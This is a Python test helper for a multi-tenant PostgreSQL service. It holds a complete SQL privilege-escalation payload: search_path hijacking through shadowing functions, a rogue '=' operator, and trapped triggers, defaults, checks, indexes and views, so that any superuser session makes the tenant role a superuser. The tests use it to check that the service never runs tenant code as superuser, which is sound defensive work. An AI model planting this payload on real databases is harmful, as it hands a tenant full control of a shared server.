"""The escalation a tenant plants with only its db_url (issue 22): what the engine tests that prove Berth's sessions
never run it as a superuser share (test_tenant_escalation.py, and move in test_swarm_lifecycle.py)."""

import psycopg

# Every planted function calls evil.snitch, which does nothing for a caller
# that is no superuser (so the tenant's own sessions, and a restore run as the
# tenant, add no row a backup's row count would then miss) and, for a
# superuser, records the call and escalates. Errors are swallowed: the attack
# stays quiet in a read-only transaction, and never breaks what it rides on.
PLANT = r"""
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.log (who text NOT NULL, via text NOT NULL, at timestamptz NOT NULL DEFAULT pg_catalog.now());
GRANT INSERT ON evil.log TO PUBLIC;
CREATE FUNCTION evil.snitch(via text) RETURNS void LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  IF pg_catalog.current_setting('is_superuser') OPERATOR(pg_catalog.=) 'on' THEN
    BEGIN
      INSERT INTO evil.log (who, via) VALUES (CURRENT_USER, via);
      ALTER ROLE app SUPERUSER;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
END $f$;
CREATE FUNCTION evil.current_database() RETURNS name LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('current_database()'); RETURN pg_catalog.current_database(); END $f$;
CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('current_setting()'); RETURN pg_catalog.current_setting($1); END $f$;
CREATE FUNCTION evil.pg_database_size(name) RETURNS bigint LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('pg_database_size()'); RETURN pg_catalog.pg_database_size($1); END $f$;
CREATE FUNCTION evil.pg_reload_conf() RETURNS boolean LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('pg_reload_conf()'); RETURN pg_catalog.pg_reload_conf(); END $f$;
CREATE FUNCTION evil.pg_notify(text, text) RETURNS void LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('pg_notify()'); PERFORM pg_catalog.pg_notify($1, $2); END $f$;
CREATE FUNCTION evil.snitched(via text) RETURNS boolean LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch(via); RETURN true; END $f$;
-- SQL, inlined: the tenant's own sessions (PostGraphile's introspection compares
-- names by the thousand) pay a setting's look-up per comparison, not a call.
CREATE FUNCTION evil.name_eq(name, name) RETURNS boolean LANGUAGE sql AS $f$
  SELECT CASE WHEN pg_catalog.current_setting('is_superuser') OPERATOR(pg_catalog.=) 'on'
              THEN evil.snitched('operator =') AND $1 OPERATOR(pg_catalog.=) $2
              ELSE $1 OPERATOR(pg_catalog.=) $2 END $f$;
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.name_eq, RESTRICT = eqsel, JOIN = eqjoinsel);
CREATE FUNCTION evil.checked(text) RETURNS boolean LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('check constraint'); RETURN true; END $f$;
CREATE FUNCTION evil.indexed(text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS
  $f$ BEGIN PERFORM evil.snitch('index expression'); RETURN $1; END $f$;
CREATE FUNCTION evil.defaulted() RETURNS text LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('default'); RETURN 'tag'; END $f$;
CREATE FUNCTION evil.viewed(text) RETURNS text LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('materialized view'); RETURN $1; END $f$;
CREATE FUNCTION evil.audit() RETURNS trigger LANGUAGE plpgsql AS
  $f$ BEGIN PERFORM evil.snitch('trigger'); RETURN NEW; END $f$;
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA evil TO PUBLIC;
CREATE TABLE public.items (
  id serial PRIMARY KEY, name text NOT NULL CHECK (evil.checked(name)), tag text DEFAULT evil.defaulted()
);
CREATE INDEX items_indexed ON public.items ((evil.indexed(name)));
CREATE TRIGGER items_audit BEFORE INSERT OR UPDATE ON public.items FOR EACH ROW EXECUTE FUNCTION evil.audit();
INSERT INTO public.items (name) VALUES ('anchor'), ('rope'), ('sail');
CREATE MATERIALIZED VIEW public.items_seen AS SELECT evil.viewed(name) AS name FROM public.items;
ALTER ROLE app SET search_path = evil, pg_catalog, public;
"""


def query(db_url: str, statement: str) -> list[tuple]:
    with psycopg.connect(db_url, connect_timeout=5, autocommit=True) as conn:
        cursor = conn.execute(statement)
        return cursor.fetchall() if cursor.description else []


def plant(db_url: str) -> None:
    with psycopg.connect(db_url, connect_timeout=5, autocommit=True) as conn:
        conn.execute(PLANT)
        database = conn.execute("SELECT pg_catalog.current_database()").fetchone()[0]
        conn.execute(f'ALTER DATABASE "{database}" SET search_path = evil, pg_catalog, public')
    # A new session of the tenant's sees the trap as every later session will.
    assert query(db_url, "SHOW search_path") == [("evil, pg_catalog, public",)]


def assert_not_escalated(db_url: str, after: str) -> None:
    """`app` is no superuser, and no planted function ever ran as one (evil.log is empty)."""
    assert query(db_url, "SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'app'") == [(False,)], after
    assert query(db_url, "SELECT who, via FROM evil.log") == [], after
